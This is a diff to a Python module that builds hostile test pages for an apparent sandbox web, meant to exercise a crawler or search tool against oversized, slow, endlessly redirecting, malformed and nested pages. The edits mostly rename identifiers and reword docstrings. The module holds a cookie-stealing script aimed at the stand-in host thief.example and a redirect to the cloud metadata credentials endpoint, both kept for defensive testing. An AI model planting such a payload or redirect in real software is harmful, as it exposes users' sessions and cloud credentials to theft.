@@ -1,4 +1,4 @@
-"""Pages of the make-believe web that mean harm: endless, broken or full of script. Their harm stays on loopback."""
+"""Hostile pages of the invented web: endless, malformed, or full of scripts."""
 
 import asyncio
 import random
@@ -12,10 +12,10 @@ from exposurekit.sandbox.world.formats import phone_as
 from exposurekit.sandbox.world.pages import PageTruth
 from exposurekit.sandbox.world.people import Person, slug
 
-Kind = Literal["huge", "drip", "rounds", "garbled", "scripted", "nested", "metadata"]
-KINDS: tuple[Kind, ...] = ("huge", "drip", "rounds", "garbled", "scripted", "nested", "metadata")
+Kind = Literal["huge", "drip", "redirects", "garbled", "scripted", "nested", "metadata"]
+KINDS: tuple[Kind, ...] = ("huge", "drip", "redirects", "garbled", "scripted", "nested", "metadata")
 HOST = "tarpit.example"
-EACH = 2  # pages of a kind, so that a demo does not spend its time in them
+PAGES_PER_KIND = 2  # few, so that a demo does not spend its time on them
 HUGE_PARTS, PART = 800, b"<p>marsh marsh marsh marsh</p>\n" * 2114  # 800 parts of 64 kB: 50 MB
 DRIP_S = 0.2
 DEPTH = 200_000
@@ -24,7 +24,7 @@ PAYLOAD = "<script>fetch('http://thief.example/?'+document.cookie)</script>"
 
 @dataclass(frozen=True, repr=False)
 class HostilePage:
-    """A harmful page that an engine lists for somebody."""
+    """A hostile page that the search engine lists for a person."""
 
     kind: Kind
     index: int
@@ -32,48 +32,48 @@ class HostilePage:
 
     @property
     def name(self) -> str:
-        """Whom it claims to be about."""
+        """The name of the person it claims to be about."""
         return f"{self.person.first_name} {self.person.last_name}"
 
     @property
     def path(self) -> str:
-        """Where it is on its host."""
+        """Its path."""
         return f"/{self.kind}/{slug(self.name)}-{self.index}"
 
     @property
     def url(self) -> str:
-        """Its address."""
+        """Its URL."""
         return f"http://{HOST}{self.path}"
 
     @property
     def title(self) -> str:
-        """What an engine calls it."""
+        """Its title in the search results."""
         return f"{PAYLOAD}{self.name}" if self.kind == "scripted" else f"All about {self.name}"
 
     def truth(self) -> PageTruth:
-        """What stands on it all the same."""
+        """Return which of the person's data it contains."""
         kinds = {"scripted": ("email", self.person.emails), "garbled": ("phone", self.person.phone_numbers)}
-        kind, held = kinds.get(self.kind, ("", ()))
-        return PageTruth(self.url, self.index, (kind,) if held else (), hostile=True)
+        kind, values = kinds.get(self.kind, ("", ()))
+        return PageTruth(self.url, self.index, (kind,) if values else (), hostile=True)
 
-    def answer(self, path: str) -> Response:
-        """What it does to whoever opens it."""
+    def respond(self, path: str) -> Response:
+        """Answer a request for the page."""
         match self.kind:
             case "huge":
-                answer = Response(parts=partial(_huge, self.name))
+                response = Response(parts=partial(_huge, self.name))
             case "drip":
-                answer = Response(parts=partial(_drip, self.name))
-            case "rounds":
-                answer = redirect(f"{self.path}/{_round(path) + 1}")
+                response = Response(parts=partial(_drip, self.name))
+            case "redirects":
+                response = redirect(f"{self.path}/{_redirect_number(path) + 1}")
             case "garbled":
-                answer = Response(self._garbled(), kind="text/html; charset=x-no-such-code")
+                response = Response(self._garbled(), kind="text/html; charset=x-no-such-code")
             case "scripted":
-                answer = html(self._scripted())
+                response = html(self._scripted())
             case "nested":
-                answer = Response(_nested() + self.name.encode())
+                response = Response(_nested() + self.name.encode())
             case "metadata":
-                answer = redirect("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
-        return answer
+                response = redirect("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
+        return response
 
     def _garbled(self) -> bytes:
         phones = " ".join(phone_as(number, 0) for number in self.person.phone_numbers)
@@ -95,13 +95,13 @@ class HostilePage:
 
 
 def build_hostile_pages(people: Sequence[Person], seed: int) -> list[HostilePage]:
-    """The harmful pages: a few of each kind, for as many people as there are of them."""
-    rng = random.Random(f"hostile {seed}")  # noqa: S311  make-believe, not a secret
-    chosen = rng.sample(range(len(people)), min(len(people), EACH * len(KINDS)))
+    """Build a few hostile pages of each kind, each for another person."""
+    rng = random.Random(f"hostile {seed}")  # noqa: S311  invented data, not a secret
+    chosen = rng.sample(range(len(people)), min(len(people), PAGES_PER_KIND * len(KINDS)))
     return [HostilePage(KINDS[at % len(KINDS)], index, people[index]) for at, index in enumerate(chosen)]
 
 
-def _round(path: str) -> int:
+def _redirect_number(path: str) -> int:
     last = path.rpartition("/")[2]
     return int(last) if last.isascii() and last.isdigit() and len(last) < 9 else 0  # noqa: PLR2004
 
